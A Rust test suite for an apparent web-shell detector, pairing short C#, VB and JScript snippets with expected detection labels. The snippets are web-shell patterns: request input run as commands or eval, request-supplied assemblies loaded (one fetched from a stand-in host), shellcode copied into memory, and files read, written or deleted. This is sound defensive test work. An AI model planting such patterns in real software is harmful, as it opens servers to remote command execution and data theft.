//! TEST-ONLY pieces: each row is inert and as short as one source and one way out allow.

use crate::language::Language;
use crate::library::check::check;

#[test]
fn commands() {
    check(
        Language::CSharp,
        &[
            (r#"Process.Start(Request["a"]);"#, "Command Process.Start Parameter:a Whole"),
            (r#"Process.Start("cmd.exe", "/c " + Request["a"]);"#, "Command Process.Start Parameter:a Whole also"),
            (r#"Process.Start("ping", "-n 1 " + Request["a"]);"#, "Command Process.Start Parameter:a Part also"),
            (r#"Process.Start("ping", "-n 1");"#, "Command Process.Start = ping -n 1"),
            (
                r#"var p = new Process(); p.StartInfo.FileName = "cmd"; p.StartInfo.Arguments = "/c " + Request.Form["a"]; p.Start();"#,
                "Command Process.Start Parameter:a Whole also",
            ),
            (
                r#"ProcessStartInfo i = new ProcessStartInfo(); i.FileName = "sh"; i.Arguments = String.Format("-c \"{0}\"", Request.QueryString["a"]); Process p = Process.Start(i);"#,
                "Command Process.Start Parameter:a Whole also",
            ),
            (
                r#"var i = new System.Diagnostics.ProcessStartInfo("cmd.exe") { Arguments = Request.Headers["X-A"] }; System.Diagnostics.Process.Start(i);"#,
                "Command Process.Start Header:X-A Whole also",
            ),
            (
                r#"Process p = new Process { StartInfo = new ProcessStartInfo { FileName = "cmd" } }; p.Start(); p.StandardInput.WriteLine(Request.Cookies["a"].Value);"#,
                "Command Process.Start = cmd ; Command Process.StandardInput Cookie:a Whole",
            ),
            (
                r#"using (PowerShell ps = PowerShell.Create()) { ps.AddScript(Request.Params["a"]).Invoke(); }"#,
                "Command PowerShell.AddScript Parameter:a Whole",
            ),
            (
                r#"Runspace r = RunspaceFactory.CreateRunspace(); r.Open(); Pipeline p = r.CreatePipeline(); p.Commands.AddScript(Request["a"]); p.Invoke();"#,
                "Command PowerShell.AddScript Parameter:a Whole",
            ),
            (r#"new RunspaceInvoke().Invoke(Request["a"]);"#, "Command RunspaceInvoke.Invoke Parameter:a Whole"),
            (
                r#"var m = new ManagementClass("Win32_Process"); m.InvokeMethod("Create", new object[] { Request["a"], null });"#,
                "Command Win32_Process.Create Parameter:a Whole",
            ),
            (
                r#"dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell")); s.Run("cmd /c " + Request["a"]);"#,
                "Command WScript.Shell.Run Parameter:a Whole",
            ),
            (
                r#"Type t = Type.GetType("System.Diagnostics.Process"); t.GetMethod("Start", new Type[0]).Invoke(null, new object[] { "cmd", "/c " + Request["a"] });"#,
                "Command Process.Start Parameter:a Whole also",
            ),
            (
                r#"var n = "St" + "art"; typeof(System.Diagnostics.Process).GetMethod(n).Invoke(null, new object[] { Request["a"] });"#,
                "Command Process.Start Parameter:a Whole computed",
            ),
        ],
    );
    check(
        Language::VisualBasic,
        &[
            ("Shell(Request(\"a\"))", "Command Interaction.Shell Parameter:a Whole"),
            ("Shell(\"cmd /c \" & Request.Form(\"a\"), 0, True)", "Command Interaction.Shell Parameter:a Whole"),
            (
                "Dim p As New Process()\np.StartInfo.FileName = \"cmd.exe\"\np.StartInfo.Arguments = \"/c \" + Request.QueryString(\"a\")\np.Start()",
                "Command Process.Start Parameter:a Whole also",
            ),
            ("CreateObject(\"WScript.Shell\").Run(Request.Item(\"a\"))", "Command WScript.Shell.Run Parameter:a Whole"),
            (
                "Dim i = New ProcessStartInfo With {.FileName = Request.Headers.Get(\"a\")}\nProcess.Start(i)",
                "Command Process.Start Header:a Whole",
            ),
        ],
    );
}

#[test]
fn code() {
    check(
        Language::CSharp,
        &[
            (
                r#"new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), Request["a"]);"#,
                "Code CodeDomProvider.CompileAssemblyFromSource Parameter:a Whole",
            ),
            (
                r#"var r = CodeDomProvider.CreateProvider("CSharp").CompileAssemblyFromSource(o, new string[] { Request["a"] }); r.CompiledAssembly.CreateInstance("A").Equals(this);"#,
                "Code CodeDomProvider.CompileAssemblyFromSource Parameter:a Whole; Invoke Assembly.CreateInstance Parameter:a Whole; Invoke (loaded).equals Parameter:a Whole",
            ),
            (
                r#"Microsoft.JScript.Eval.JScriptEvaluate(Request["a"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine());"#,
                "Code Eval.JScriptEvaluate Parameter:a Whole",
            ),
            (
                r#"var x = new XslCompiledTransform(); x.Load(XmlReader.Create(new StringReader(Request["a"])), new XsltSettings(true, true), null);"#,
                "Code XslCompiledTransform.Load Parameter:a Whole",
            ),
            (
                r#"var x = new XslCompiledTransform(); var d = new XmlDocument(); d.LoadXml(Request["a"]); x.Load(d, XsltSettings.TrustedXslt, new XmlUrlResolver());"#,
                "Code XslCompiledTransform.Load Parameter:a Whole",
            ),
            (r#"var x = new XslCompiledTransform(); x.Load(Request["a"]);"#, ""),
            (
                r#"var x = new XslCompiledTransform(); var d = new XmlDocument(); d.LoadXml("<s><m:script language='JScript'><![CDATA[function f() { eval(System.Web.HttpContext.Current.Request.Item['a']); }]]></m:script></s>"); x.Load(d, XsltSettings.TrustedXslt, null);"#,
                "Code XslCompiledTransform.Load = <s><m:script language='JScript'><![CDATA[function f() { eval(System.Web.HttpContext.Current.Request.Item['a']); }]]></m:script></s>; Code eval Parameter:a Whole",
            ),
            (r#"CSharpScript.EvaluateAsync(Request.Query["a"]);"#, "Code CSharpScript.EvaluateAsync Parameter:a Whole"),
        ],
    );
    check(
        Language::JscriptNet,
        &[
            (r#"eval(Request.Item["a"], "unsafe");"#, "Code eval Parameter:a Whole"),
            (r#"eval(Request["a"]);"#, "Code eval Parameter:a Whole"),
            (r#"var f = this["ev" + "al"]; f(Request["a"]);"#, "Code eval Parameter:a Whole computed"),
            (
                r#"var a = Request.Item["b"]; var c = "un" + "safe"; eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(a)), c);"#,
                "Code eval Parameter:b Whole decoded",
            ),
            (
                r#"function Page_Load(){ eval(String.fromCharCode(101,118,97,108) + "(Request['a'])"); }"#,
                "Code eval = eval(Request['a']); Code eval Parameter:a Whole",
            ),
        ],
    );
}

#[test]
fn loaded() {
    check(
        Language::CSharp,
        &[
            (
                r#"Assembly.Load(Convert.FromBase64String(Request["a"])).CreateInstance("A").Equals(Context);"#,
                "Load Assembly.Load Parameter:a Whole decoded; Invoke Assembly.CreateInstance Parameter:a Whole decoded; Invoke (loaded).equals Parameter:a Whole decoded",
            ),
            (
                r#"byte[] k = Encoding.Default.GetBytes("k"), c = Request.BinaryRead(Request.ContentLength); Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length));"#,
                "Load Assembly.Load Body: Whole decoded",
            ),
            (r#"Assembly.LoadFrom(Request["a"]);"#, "Load Assembly.LoadFrom Parameter:a Whole"),
            (r#"AppDomain.CurrentDomain.Load(Request.BinaryRead(9));"#, "Load AppDomain.Load Body: Whole"),
            (
                r#"Activator.CreateInstance(Type.GetType(Request["a"]));"#,
                "Invoke Type.GetType Parameter:a Whole; Invoke Activator.CreateInstance Parameter:a Whole",
            ),
            (
                r#"new BinaryFormatter().Deserialize(Request.InputStream);"#,
                "Deserialise BinaryFormatter.Deserialize Body: Whole also",
            ),
            (
                r#"new LosFormatter().Deserialize(Request.Form["a"]);"#,
                "Deserialise LosFormatter.Deserialize Parameter:a Whole also",
            ),
            (
                r#"var s = new JavaScriptSerializer(new SimpleTypeResolver()); s.Deserialize<object>(Request["a"]);"#,
                "Deserialise JavaScriptSerializer.Deserialize Parameter:a Whole also",
            ),
            (r#"var s = new JavaScriptSerializer(); s.Deserialize<object>(Request["a"]);"#, ""),
            (
                r#"JsonConvert.DeserializeObject(Request["a"], new JsonSerializerSettings { TypeNameHandling = TypeNameHandling.All });"#,
                "Deserialise JsonConvert.DeserializeObject Parameter:a Whole also",
            ),
            (r#"JsonConvert.DeserializeObject(Request["a"]);"#, ""),
            (r#"XamlReader.Parse(Request["a"]);"#, "Deserialise XamlReader.Parse Parameter:a Whole also"),
            (
                r#"class A { [DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, int b); void Page_Load(object s, EventArgs e) { var c = Convert.FromBase64String(Request["a"]); Marshal.Copy(c, 0, VirtualAlloc(IntPtr.Zero, 9), c.Length); } }"#,
                "Native VirtualAlloc = ; Native Marshal.Copy Parameter:a Whole decoded",
            ),
        ],
    );
}

#[test]
fn files() {
    check(
        Language::CSharp,
        &[
            (
                r#"File.WriteAllText(Server.MapPath("x.aspx"), Request["a"]);"#,
                "Write File.WriteAllText Parameter:a Whole also served",
            ),
            (r#"File.WriteAllText(Request["f"], Request["a"]);"#, "Write File.WriteAllText Parameter:f Whole also"),
            (
                r#"StreamWriter w = new StreamWriter(Request["f"], true, Encoding.UTF8); w.Write(Request["a"]); w.Close();"#,
                "Write StreamWriter.Write Parameter:f Whole also",
            ),
            (
                r#"using (var f = new FileStream(Request["f"], FileMode.Create)) { byte[] b = Convert.FromBase64String(Request["a"]); f.Write(b, 0, b.Length); }"#,
                "Write FileStream Parameter:f Whole; Write FileStream.Write Parameter:f Whole also",
            ),
            (r#"Response.Write(File.ReadAllText(Request["f"]));"#, "Read File.ReadAllText Parameter:f Whole"),
            (
                r#"using (var r = new StreamReader(Request["f"])) { Response.Write(r.ReadToEnd()); }"#,
                "Read StreamReader Parameter:f Whole",
            ),
            (r#"Response.TransmitFile(Request["f"]);"#, "Read Response.TransmitFile Parameter:f Whole"),
            (
                r#"Request.Files[0].SaveAs(Server.MapPath(Request.Files[0].FileName));"#,
                "Upload HttpPostedFile.SaveAs UploadName:filename Whole also",
            ),
            (
                r#"HttpPostedFile f = Request.Files["a"]; f.SaveAs("c:\\x\\" + f.FileName);"#,
                "Upload HttpPostedFile.SaveAs UploadName:filename Part also",
            ),
            (
                r#"FileUpload u = (FileUpload)FindControl("u"); u.SaveAs(Request["f"]);"#,
                "Upload FileUpload.SaveAs Parameter:f Whole also",
            ),
            (r#"File.Delete(Request["f"]);"#, "Change File.Delete Parameter:f Whole"),
            (r#"File.Copy("a", Request["f"]);"#, "Change File.Copy Parameter:f Whole"),
            (
                r#"foreach (var d in new DirectoryInfo(Request["d"]).GetDirectories()) Response.Write(d.Name);"#,
                "List DirectoryInfo.GetDirectories Parameter:d Whole",
            ),
            (r#"Directory.GetFiles(Request["d"]);"#, "List Directory.GetFiles Parameter:d Whole"),
            (r#"Directory.Delete(Request["d"], true);"#, "Change Directory.Delete Parameter:d Whole"),
            (r#"new FileInfo(Request["f"]).Delete();"#, "Change FileInfo.Delete Parameter:f Whole"),
            (r#"Server.Execute(Request["f"]);"#, "Include Server.Execute Parameter:f Whole"),
        ],
    );
}

#[test]
fn methods_by_other_ways() {
    check(
        Language::CSharp,
        &[
            (
                r#"object s = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8"))); s.GetType().InvokeMember("Run", BindingFlags.InvokeMethod, null, s, new object[] { Request["q"] });"#,
                "Command WScript.Shell.Run Parameter:q Whole",
            ),
            (r#"Func<string, Process> f = Process.Start; f(Request["q"]);"#, "Command Process.Start Parameter:q Whole"),
        ],
    );
}

#[test]
fn networks_and_databases() {
    check(
        Language::CSharp,
        &[
            (
                r#"SqlConnection c = new SqlConnection(Request["c"]); SqlCommand q = new SqlCommand(Request["q"], c); q.ExecuteNonQuery();"#,
                "Sql Command.Execute Parameter:q Whole also",
            ),
            (
                r#"var q = new OleDbCommand(); q.CommandText = "select * from t where a='" + Request["q"] + "'"; q.ExecuteReader();"#,
                "Sql Command.Execute Parameter:q Part",
            ),
            (
                r#"new SqlDataAdapter(Request["q"], Request["c"]).Fill(new DataSet());"#,
                "Sql DataAdapter.Fill Parameter:q Whole also",
            ),
            (r#"new WebClient().DownloadString(Request["u"]);"#, "Fetch WebClient.DownloadString Parameter:u Whole"),
            (
                r#"new WebClient().DownloadFile(Request["u"], Request["f"]);"#,
                "Fetch WebClient.DownloadFile Parameter:u Whole; Write WebClient.DownloadFile Parameter:f Whole also",
            ),
            (
                r#"Assembly.Load(new WebClient().DownloadData("http://x.invalid/a"));"#,
                "Fetch WebClient.DownloadString = http://x.invalid/a; Load Assembly.Load Remote:http://x.invalid/a Whole",
            ),
            (
                r#"var s = new Socket(a, b, c); s.Connect(Request["h"], 80); s.Send(Request.BinaryRead(9));"#,
                "Tunnel Socket.Connect Parameter:h Whole; Tunnel Socket.Send Parameter:h Whole also",
            ),
            (r#"new TcpClient(Request["h"], int.Parse(Request["p"]));"#, "Tunnel TcpClient Parameter:h Whole also"),
            (
                r#"new Socket(a, b, c).Connect(new IPEndPoint(IPAddress.Parse(Request["h"]), int.Parse(Request["p"])));"#,
                "Tunnel Socket.Connect Parameter:h Whole also",
            ),
            (
                r#"HttpWebRequest r = (HttpWebRequest)WebRequest.Create(Request["u"]); Request.InputStream.CopyTo(r.GetRequestStream()); r.GetResponse();"#,
                "Tunnel HttpWebRequest.GetResponse Parameter:u Whole also",
            ),
            (
                r#"HostingEnvironment.RegisterVirtualPathProvider(new P());"#,
                "Resident HostingEnvironment.RegisterVirtualPathProvider = ",
            ),
            (
                r#"HttpListener l = new HttpListener(); l.Prefixes.Add("http://*:80/x/"); l.Start(); var c = l.GetContext(); Process.Start(c.Request.QueryString["a"]);"#,
                "Resident HttpListener.Start = http://*:80/x/; Command Process.Start Parameter:a Whole",
            ),
            (r#"Registry.SetValue("a", "b", Request["a"]);"#, "Change Registry.SetValue Parameter:a Whole"),
        ],
    );
}

#[test]
fn entries() {
    check(
        Language::CSharp,
        &[
            (
                r#"public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { Process.Start(context.Request["a"]); } public bool IsReusable { get { return false; } } }"#,
                "Command Process.Start Parameter:a Whole",
            ),
            (
                r#"class S : WebService { [WebMethod] public string R(string a) { Process.Start(a); return ""; } }"#,
                "Command Process.Start Parameter:a Whole",
            ),
            (
                r#"protected void Page_Load(object sender, EventArgs e) { R(Request["a"]); } void R(string c) { Process.Start(c); }"#,
                "Command Process.Start Parameter:a Whole",
            ),
            (
                r#"class A { protected TextBox t; void b_Click(object s, EventArgs e) { Process.Start("cmd", "/c " + t.Text); } }"#,
                "Command Process.Start Parameter: Whole also",
            ),
            (
                r#"void b_Click(object s, EventArgs e) { Process.Start("cmd", "/c " + Nothing1.Text); }"#,
                "Command Process.Start = cmd /c …",
            ),
            (
                r#"HttpContext.Current.Request.Form["a"].ToString(); Process.Start(HttpContext.Current.Request.Form["a"].Trim());"#,
                "Command Process.Start Parameter:a Whole",
            ),
            (
                r#"app.Run(async (context) => { Process.Start(context.Request.Query["a"]); });"#,
                "Command Process.Start Parameter:a Whole",
            ),
            (
                r#"class H { void ProcessRequest(HttpContext c) { c.AcceptWebSocketRequest(Run); } async Task Run(AspNetWebSocketContext w) { var b = new ArraySegment<byte>(new byte[9]); byte[] d = new byte[9]; var s = new ArraySegment<byte>(d); await w.WebSocket.ReceiveAsync(s, t); Process.Start(Encoding.UTF8.GetString(d, 0, n)); } }"#,
                "Command Process.Start Body:web socket Whole",
            ),
            (
                r#"class A : Page { override void OnLoad(EventArgs e) { if (Session["k"] == null) Session["k"] = Request["a"]; Process.Start(Session["k"].ToString()); } }"#,
                "Command Process.Start Parameter:a Whole",
            ),
        ],
    );
}

#[test]
fn fields_and_parameters() {
    check(
        Language::CSharp,
        &[
            (
                r#"class K { string c; public string C { set { c = value; } } public void Go() { Process.Start(c); } } void Page_Load(object s, EventArgs e) { new K { C = Request["q"] }.Go(); }"#,
                "Command Process.Start Parameter:q Whole",
            ),
            (
                r#"class P { byte[] b = new byte[9]; void Page_Load(object s, EventArgs e) { Request.InputStream.Read(b, 0, 9); Assembly.Load(b); } }"#,
                "Load Assembly.Load Body: Whole",
            ),
            (
                r#"class P { static byte[] b = new byte[9]; void Page_Load(object s, EventArgs e) { Request.InputStream.Read(b, 0, 9); Assembly.Load(b); } }"#,
                "Load Assembly.Load Body: Whole",
            ),
            (
                r#"string C { get { return Request["q"]; } } void Page_Load(object s, EventArgs e) { Process.Start(C); }"#,
                "Command Process.Start Parameter:q Whole",
            ),
            (
                r#"[HttpPost] public string R(string c) { Process.Start(c); return ""; }"#,
                "Command Process.Start Parameter:c Whole",
            ),
            (r#"app.MapGet("/x", (string c) => Process.Start(c));"#, "Command Process.Start Parameter:c Whole"),
            (
                r#"var d = new Dictionary<string, string> { { "c", Request["c"] } }; Process.Start(d["c"]);"#,
                "Command Process.Start Parameter:c Whole",
            ),
            (
                r#"var t = Type.GetTypeFromProgID("WScript.Shell"); t.InvokeMember("Run", f, null, Activator.CreateInstance(t), new object[] { Request["c"] });"#,
                "Command WScript.Shell.Run Parameter:c Whole",
            ),
            (
                r#"class P { string c; void Page_Load(object s, EventArgs e) { Set(); Go(); } void Set() { c = Request["q"]; } void Go() { Process.Start(c); } }"#,
                "Command Process.Start Parameter:q Whole",
            ),
        ],
    );
}

/// A handler of an assembly that comes in the body, in two steps over the session.
#[test]
fn two_steps() {
    check(
        Language::CSharp,
        &[
            (
                r#"void Page_Load(object s, EventArgs e) { if (Session["p"] == null) Session["p"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { Request.BinaryRead(9) }); else { object o = ((Assembly)Session["p"]).CreateInstance("A"); o.Equals(this); } }"#,
                "Load Assembly.Load Body: Whole; Invoke Assembly.CreateInstance Body: Whole; Invoke (loaded).equals Body: Whole",
            ),
            (
                r#"class H { void ProcessRequest(System.Web.HttpContext Context) { Process.Start(Context.Request["a"]); } }"#,
                "Command Process.Start Parameter:a Whole",
            ),
        ],
    );
}

#[test]
fn ways_through() {
    check(
        Language::CSharp,
        &[
            (
                r#"Process.Start(new string(Request["a"].Reverse().ToArray()));"#,
                "Command Process.Start Parameter:a Whole decoded",
            ),
            (
                r#"Process.Start(String.Join("", Request["a"].Split('-').Select(x => (char)Convert.ToByte(x, 16))));"#,
                "Command Process.Start Parameter:a Whole decoded",
            ),
            (
                r#"var b = new StringBuilder(); foreach (char c in Request["a"]) b.Append((char)(c ^ 7)); Process.Start(b.ToString());"#,
                "Command Process.Start Parameter:a Whole",
            ),
            (
                r#"var m = new MemoryStream(); new GZipStream(new MemoryStream(Convert.FromBase64String(Request["a"])), CompressionMode.Decompress).CopyTo(m); Assembly.Load(m.ToArray());"#,
                "Load Assembly.Load Parameter:a Whole decoded",
            ),
            (
                r#"byte[] b = new byte[1024]; Request.InputStream.Read(b, 0, b.Length); Assembly.Load(b);"#,
                "Load Assembly.Load Body: Whole",
            ),
            (
                r#"var d = new Dictionary<string, string>(); d["x"] = Request["a"]; d.Add("y", "z"); Process.Start(d["y"]); Process.Start(d["x"]);"#,
                "Command Process.Start = z; Command Process.Start Parameter:a Whole",
            ),
            (r#"int n = int.Parse(Request["a"]); Process.Start("x" + n);"#, "Command Process.Start = x…"),
            (
                r#"Process.Start(MD5.Create().ComputeHash(Encoding.UTF8.GetBytes(Request["a"])).ToString());"#,
                "Command Process.Start = ",
            ),
            (r#"foreach (string k in Request.Form) Process.Start(Request.Form[k]);"#, "Command Process.Start Parameter: Whole"),
            (r#"Process.Start(new StreamReader(Request.InputStream).ReadToEnd());"#, "Command Process.Start Body: Whole"),
            (
                r#"string a = Request["a"]; if (String.IsNullOrEmpty(a)) return; Process.Start(Regex.Replace(a, "x", ""));"#,
                "Command Process.Start Parameter:a Whole",
            ),
        ],
    );
}

/// What constants become: the argument of a harmless call shows it.
#[test]
fn computations() {
    let rows = [
        (r#""abcdef".Substring(2, 3)"#, "cde"),
        (r#""a-b".Replace("-", "+").ToUpper()"#, "A+B"),
        (r#"String.Join("", "cba".ToCharArray().Reverse())"#, "abc"),
        (r#"new string(new char[] { 'a', 'b' })"#, "ab"),
        (r#"Encoding.UTF8.GetString(Convert.FromBase64String("YWJj"))"#, "abc"),
        (r#"Encoding.ASCII.GetString(new byte[] { 97, 98, 99 })"#, "abc"),
        (r#"((char)('a' + 1)).ToString() + (char)100"#, "bd"),
        (r#"String.Format("{1}{0}", "a", "b")"#, "ba"),
        (r#"String.Concat("a", "b", 'c')"#, "abc"),
        (r#"new StringBuilder("a").Append("b").Append('c').Insert(0, "x").ToString()"#, "xabc"),
        (r#"Convert.ToChar(Convert.ToInt32("41", 16)).ToString()"#, "A"),
        (r#"HttpUtility.UrlDecode("%61+b")"#, "a b"),
        (r#""a,b".Split(',')[1]"#, "b"),
        (r#"Regex.Replace("xaxb", "x(.)", "$1")"#, "ab"),
        (r#"new string(new[] { 1, 2 }.Select(n => (char)(n + 96)).ToArray())"#, "ab"),
        (r#""acb".Remove(1, 1).PadLeft(3, '0')"#, "0ab"),
        (r#"BitConverter.ToString(new byte[] { 10, 11 }).Replace("-", "")"#, "0A0B"),
        (r#"new[] { "a", "b" }.Aggregate("", (s, x) => s + x)"#, "ab"),
        (r#"Path.Combine("a", "b.txt")"#, "a\\b.txt"),
    ];
    let rows: Vec<(String, String)> = rows
        .iter()
        .map(|(source, value)| (format!("Process.Start({source});"), format!("Command Process.Start = {value}")))
        .collect();
    for (source, expected) in &rows {
        let found = crate::library::check::hits(Language::CSharp, source).join("; ");
        let found = found.replace(" decoded", "").replace(" computed", "");
        assert_eq!(&found, expected, "{source}");
    }
    check(
        Language::CSharp,
        &[
            (
                r#"string s = "", t = "`ldr"; for (int i = 0; i < t.Length; i++) s += (char)(t[i] ^ 1); Process.Start(s);"#,
                "Command Process.Start = ames",
            ),
            (
                r#"byte[] b = Convert.FromBase64String("YGI="); for (int i = 0; i < b.Length; i++) b[i] = (byte)(b[i] ^ 1); Process.Start(Encoding.UTF8.GetString(b));"#,
                "Command Process.Start = ac decoded",
            ),
            (
                r#"char[] c = "ba".ToCharArray(); Array.Reverse(c); Process.Start(new string(c));"#,
                "Command Process.Start = ab decoded",
            ),
        ],
    );
}

/// Names and values that mean something here, thrown together.
const WORDS: &[&str] = &[
    "Request",
    "[\"a\"]",
    ".Form",
    "(\"a\")",
    "Process.Start",
    "new StringBuilder()",
    ".Append",
    ".ToString()",
    ".Substring",
    ".Replace",
    ".Split",
    ".Reverse()",
    ".ToArray()",
    ".Select(x => x)",
    ".PadLeft",
    ".Insert",
    ".Remove",
    "(1)",
    "(0, 3)",
    "(-1)",
    "(99999999)",
    "(\"\", \"b\")",
    "('a', 70000)",
    "Convert.FromBase64String",
    "Encoding.UTF8.GetString",
    "new byte[9]",
    "+",
    "^",
    ";",
    "var a =",
    "a",
    "\"abc\"",
    "'c'",
    "new string('x', 900000000)",
    "String.Join",
    "String.Format",
    "(\"{0}{9}\", a)",
    "Regex.Replace",
    "(a, \"(.)\", \"$1$9${x\")",
    "Array.Reverse(a)",
    "[0]",
    "[-1]",
    "[99]",
    "new List<int>()",
    ".Add",
    "new MemoryStream(a)",
    ".Read(a, 0, 9)",
    "Path.Combine",
    "Eval",
    "Execute",
    "Mid",
    "Left",
    "Chr",
    "Asc",
    "Replace",
    "InStr",
    "String",
    "Array",
    "Hex",
    "CLng",
    "UBound",
    "CreateObject(\"ADODB.Stream\")",
    ".Write",
    ".SaveToFile",
    "eval",
    "unescape",
    "[\"join\"]",
    ".push",
    ".splice",
    ".substr",
    ".slice",
    ".charCodeAt",
    "String.fromCharCode",
    "new Function",
    "new RegExp",
    "for (;;) a += a;",
    "a = a + a",
    "(a)",
    "(",
    ")",
    "{",
    "}",
    "\n",
    "&",
    "Do",
    "Loop",
    "Function f",
    "End Function",
    "f",
    "class A",
    ".toString(36)",
    "parseInt",
    "Session(\"a\") =",
    "typeof(",
    ".Invoke(null, ",
];

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 400, failure_persistence: None, ..Default::default() })]

    #[test]
    fn any_words_are_walked(words in proptest::collection::vec(proptest::sample::select(WORDS), 0..60), glue in 0..2) {
        let source = words.join(if glue == 0 { " " } else { "" });
        for language in [Language::CSharp, Language::VisualBasic, Language::JscriptNet, Language::VbScript, Language::Jscript] {
            crate::library::check::walked(language, &source);
        }
    }
}

/// What grows in a loop is bounded.
#[test]
fn growth_ends() {
    for (language, source) in [
        (Language::CSharp, "var a = \"x\"; for (int i = 0; i < 99999; i++) a = a.Replace(\"x\", \"xx\"); eval(a);"),
        (Language::CSharp, "var a = \"x\"; for (int i = 0; i < 99999; i++) a = Regex.Replace(a, \"x\", \"$0$0\");"),
        (Language::CSharp, "var a = \"x\"; while (true) a = a.PadLeft(99999, 'x').Insert(0, a);"),
        (Language::CSharp, "var l = new List<string>(); for (int i = 0; i < 99999; i++) { l.Add(\"x\"); l.AddRange(l); }"),
        (Language::CSharp, "var b = new StringBuilder(\"x\"); for (int i = 0; i < 99999; i++) b.Append(b.ToString());"),
        (Language::VbScript, "a = \"x\"\nDo\na = Replace(a, \"x\", \"xxx\") & String(99999, \"x\")\nLoop"),
        (Language::VbScript, "Do\nExecute \"a = a & 1\"\nLoop"),
        (Language::Jscript, "var a = [1]; for (var i = 0; i < 99999; i++) { a = a.concat(a); a.push(a.join(\"x\")); }"),
        (Language::Jscript, "function f(a) { return eval(\"f(a + a)\"); } f(\"x\");"),
        (Language::Jscript, "var a = \"x\"; for (;;) a = a.split(\"\").join(\"yy\");"),
    ] {
        let begun = std::time::Instant::now();
        crate::library::check::walked(language, source);
        assert!(begun.elapsed().as_secs() < 10, "{source}");
    }
}
